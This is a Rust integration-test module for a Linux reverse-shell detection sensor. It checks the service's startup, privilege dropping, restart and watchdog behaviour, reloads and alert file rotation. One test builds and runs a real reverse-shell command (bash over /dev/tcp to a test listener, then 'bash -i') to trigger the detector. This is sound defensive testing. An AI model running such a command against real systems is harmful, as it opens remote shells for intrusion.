//! The life of the service.

use super::gap::without_a_gap;
use super::programs::{held_by, still_loaded};
use super::unit::{CONFIG, FAR, Unit, output, run, until};
use super::{Check, skip};
use crate::field;
use anyhow::{Context, Result, bail, ensure};
use jiff::Timestamp;
use serde_json::{Value, json};
use std::fs;
use std::io::Write;
use std::net::TcpListener;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

pub(super) const TABLE: &[Check] = &[
    ("it has started in front of the network", early),
    ("it is ready, and an alert reaches the journal", alert),
    ("it runs as its own user, with nothing that only a start needs", privileges),
    ("a connection that is older, in another network, counts", older),
    ("a reload is in force at once", reload),
    ("killed, it is back within two seconds", killed),
    ("killed, it misses nothing", killed_unnoticed),
    ("upgraded in place, it misses nothing", upgraded),
    ("where there is a gap, it says from when to when nobody watched", started_later),
    ("a reader that stands still is restarted by the watchdog, and misses nothing", watchdog),
    ("a wrong configuration is said, and not tried again", misconfigured),
    ("stopped, it ends with status 0 and leaves no program in the kernel", stopped),
    ("alerts go to a file that is rotated", file),
];

/// What comes in from the network is seen from the first moment on.
fn early(unit: &mut Unit) -> Result<String> {
    let (sensor, network) = unit.started;
    ensure!(sensor > 0 && sensor < network, "active at {sensor} us, network-pre.target at {network} us");
    Ok(String::new())
}

fn alert(unit: &mut Unit) -> Result<String> {
    let status = unit.property("StatusText")?;
    ensure!(status.contains("exec=") && status.contains(" 0 lost"), "{status}");
    let alert = unit.alerts()?;
    let parent = std::env::args().collect::<Vec<_>>();
    let mut expected = vec![
        ("/rule/id", json!("reverse-shell-via-child")),
        ("/process/name", json!("bash")),
        ("/user/name", json!("root")),
        ("/destination/ip", json!(FAR)),
        ("/process/parent/executable", json!(std::env::current_exe()?)),
    ];
    if unit.whole_proc {
        expected.extend([("/process/parent/args", json!(parent)), ("/process/parent/pid", json!(std::process::id()))]);
    }
    for (place, expected) in expected {
        let value = alert.pointer(place).unwrap_or(&Value::Null);
        ensure!(*value == expected, "{place} is {value}, expected {expected}");
    }
    Ok(String::new())
}

fn privileges(unit: &mut Unit) -> Result<String> {
    let uid = run(&["id", "-u", "sensor"])?;
    let uid = uid.trim();
    let mut threads = 0;
    for thread in fs::read_dir(format!("/proc/{}/task", unit.process()?))? {
        let status = fs::read_to_string(thread?.path().join("status"))?;
        for (name, expected) in [
            ("Uid", [uid; 4].join("\t")),
            ("CapPrm", "0".repeat(16)),
            ("CapEff", "0".repeat(16)),
            ("CapAmb", "0".repeat(16)),
            ("NoNewPrivs", "1".to_owned()),
            ("Seccomp", "2".to_owned()),
        ] {
            let value = field::text(&status, name);
            ensure!(value == Some(&expected), "{name} is {value:?}, expected {expected}");
        }
        threads += 1;
    }
    ensure!(threads > 2, "{threads} threads");
    let journal = unit.journal();
    ensure!(journal.contains("privileges given up; left are capabilities: none; "), "it does not say what it kept");
    ensure!(!journal.contains("privileges are left"), "something could not be given up");
    Ok(String::new())
}

/// Found in /proc when the sensor starts, which has a network of its own.
fn older(unit: &mut Unit) -> Result<String> {
    if !unit.whole_proc {
        return skip("/proc shows the container's processes, whose numbers are not those that the kernel side knows");
    }
    let listener = TcpListener::bind((FAR, 0))?;
    let marker = unit.marker();
    let port = listener.local_addr()?.port();
    let script = format!("exec 5<>/dev/tcp/{FAR}/{port}; read line; exec bash -i {marker}");
    // A kernel side that goes on over a restart would know of it.
    run(&["systemctl", "stop", "sensor"])?;
    let mut command = Command::new("bash");
    command.args(["-c", &script]).stdin(Stdio::piped()).stdout(Stdio::null()).stderr(Stdio::null());
    let mut holder = command.spawn()?;
    let result = (|| {
        let (_connection, _) = listener.accept()?;
        unit.restart()?;
        holder.stdin.take().context("no pipe")?.write_all(b"go\n")?;
        unit.alerted(&marker)
    })();
    // It may have ended by itself.
    let _ = holder.kill();
    holder.wait()?;
    let found = result?.pointer("/sensor/sequence/0/sensor/found_at_start").cloned();
    ensure!(found == Some(json!(true)), "sensor.found_at_start is {found:?}");
    Ok(String::new())
}

fn reload(unit: &mut Unit) -> Result<String> {
    let before = unit.process()?;
    unit.configure("[rule]\nexcluded = [\"203.0.113.0/24\"]\n")?;
    unit.reload("configuration read again")?;
    let excluded = unit.reverse_shell()?;
    unit.configure("[rule]\nspam = 1\n")?;
    unit.reload("the configuration stays as it was")?;
    until("the reason in the status", || Ok(unit.property("StatusText")?.contains("spam").then_some(())))?;
    unit.configure("")?;
    unit.reload("configuration read again")?;
    unit.alerts()?;
    ensure!(unit.alert(&excluded)?.is_none(), "an excluded network is alerted after the reload");
    ensure!(unit.process()? == before, "the reload has restarted it");
    unit.expect("ActiveState", "active")?;
    Ok(String::new())
}

/// A shell is made at once, and its alert is there soon. Whatever else this host does may hold that up, so the best of a few counts.
fn killed(unit: &mut Unit) -> Result<String> {
    // An emulated processor starts a program many times slower.
    let limit = Duration::from_secs(if unit.whole_proc { 30 } else { 2 });
    let mut best = Duration::MAX;
    for restarts in ["1", "2", "3"] {
        let start = Instant::now();
        unit.kill("KILL")?;
        unit.alerts()?;
        best = best.min(start.elapsed());
        unit.expect("NRestarts", restarts)?;
        if best < limit {
            return Ok(format!("{} ms until the alert about a shell", best.as_millis()));
        }
    }
    bail!("a shell is alerted only {} ms after", best.as_millis())
}

/// The programs of the kernel side go on, and what they have recorded is handled by the next sensor. What the killed one had in its
/// hands goes with it, so that shells are made from then on.
fn killed_unnoticed(unit: &mut Unit) -> Result<String> {
    without_a_gap(unit, |unit| unit.kill("KILL"), back)
}

/// Started again by systemd.
fn back(unit: &mut Unit) -> Result<()> {
    unit.wait_for("NRestarts", "1")?;
    unit.wait_for("ActiveState", "active")
}

/// What a package does: the program is replaced while it runs, and the service is restarted.
fn upgraded(unit: &mut Unit) -> Result<String> {
    let [program, new] = ["/usr/bin/sensor", "/usr/bin/sensor.new"].map(Path::new);
    let none = |_: &mut Unit| Ok(());
    without_a_gap(unit, none, |unit| {
        fs::copy(program, new)?;
        fs::rename(new, program)?;
        unit.restart()
    })
}

/// Started after it was stopped, or by a systemd that keeps nothing.
fn started_later(unit: &mut Unit) -> Result<String> {
    unit.add("[Service]\nFileDescriptorStoreMax=0\n")?;
    unit.restart()?;
    // What lies between the clocks is cut to the millisecond.
    let asked = Timestamp::now() - Duration::from_millis(2);
    unit.restart()?;
    let done = Timestamp::now();
    let times = until("the time in the journal", || Ok(unit.unwatched()?.filter(|(from, _)| asked <= *from)));
    let (from, to) = times?;
    ensure!(from < to && to <= done, "restarted from {asked} to {done}, but: {from} to {to}");
    unit.alerts()?;
    Ok(format!("{} ms", to.duration_since(from).as_millis()))
}

/// The time of the unit is shortened, so that the test need not wait for it.
fn watchdog(unit: &mut Unit) -> Result<String> {
    const TIME: Duration = Duration::from_secs(2);
    unit.add(&format!("[Service]\nWatchdogSec={}s\n", TIME.as_secs()))?;
    unit.restart()?;
    let before = unit.process()?;
    // A quiet host is no fault.
    std::thread::sleep(3 * TIME);
    unit.expect("NRestarts", "0")?;
    let start = Instant::now();
    let shells = without_a_gap(unit, |unit| unit.kill("STOP"), back)?;
    let after = start.elapsed().as_millis();
    ensure!(unit.process()? != before, "it is the same process");
    Ok(format!("{after} ms after; {shells}"))
}

fn misconfigured(unit: &mut Unit) -> Result<String> {
    unit.configure("[rule]\nspam = 1\n")?;
    let place = format!("{CONFIG}:2:1: rule.spam: unknown key");
    unit.gives_up("3", &place)?;
    let shown = output(&["systemctl", "--no-pager", "status", "sensor"])?;
    let shown = String::from_utf8_lossy(&shown.stdout).into_owned();
    ensure!(shown.contains(&place), "systemctl status does not show it:\n{shown}");
    Ok(String::new())
}

fn stopped(unit: &mut Unit) -> Result<String> {
    let programs = held_by(unit.process()?)?;
    ensure!(programs.len() >= 3, "it holds the programs {programs:?}");
    run(&["systemctl", "stop", "sensor"])?;
    for (name, expected) in [("ActiveState", "inactive"), ("Result", "success"), ("ExecMainStatus", "0")] {
        unit.expect(name, expected)?;
    }
    // The kernel takes them away after a moment in which none runs any more.
    until("the programs to go", || Ok(still_loaded(&programs)?.is_empty().then_some(())))?;
    Ok(String::new())
}

fn file(unit: &mut Unit) -> Result<String> {
    let [path, old] = ["/var/log/sensor/alerts.ndjson", "/var/log/sensor/alerts.ndjson.1"].map(Path::new);
    unit.configure(&format!("[output]\nfile = \"{}\"\n", path.display()))?;
    unit.restart()?;
    let lines = |path: &Path| -> Result<usize> {
        let text = fs::read_to_string(path).unwrap_or_default();
        let documents = text.lines().map(serde_json::from_str::<Value>).collect::<Result<Vec<_>, _>>();
        // What is told of the sensor itself is there too.
        let is_alert = |document: &&Value| document.pointer("/event/kind") == Some(&json!("alert"));
        Ok(documents.context("the file")?.iter().filter(is_alert).count())
    };
    unit.alerts()?;
    until("the alert in the file", || Ok((lines(path)? == 1).then_some(())))?;
    fs::rename(path, old)?;
    unit.kill("USR1")?;
    unit.alerts()?;
    until("the alert in the new file", || Ok((lines(path)? == 1).then_some(())))?;
    ensure!(lines(old)? == 1, "the old file is written to");
    let file = fs::metadata(path)?;
    let uid: u32 = run(&["id", "-u", "sensor"])?.trim().parse()?;
    ensure!(file.uid() == uid && file.permissions().mode() & 0o777 == 0o600, "{file:?}");
    fs::remove_file(path)?;
    fs::remove_file(old)?;
    Ok(String::new())
}
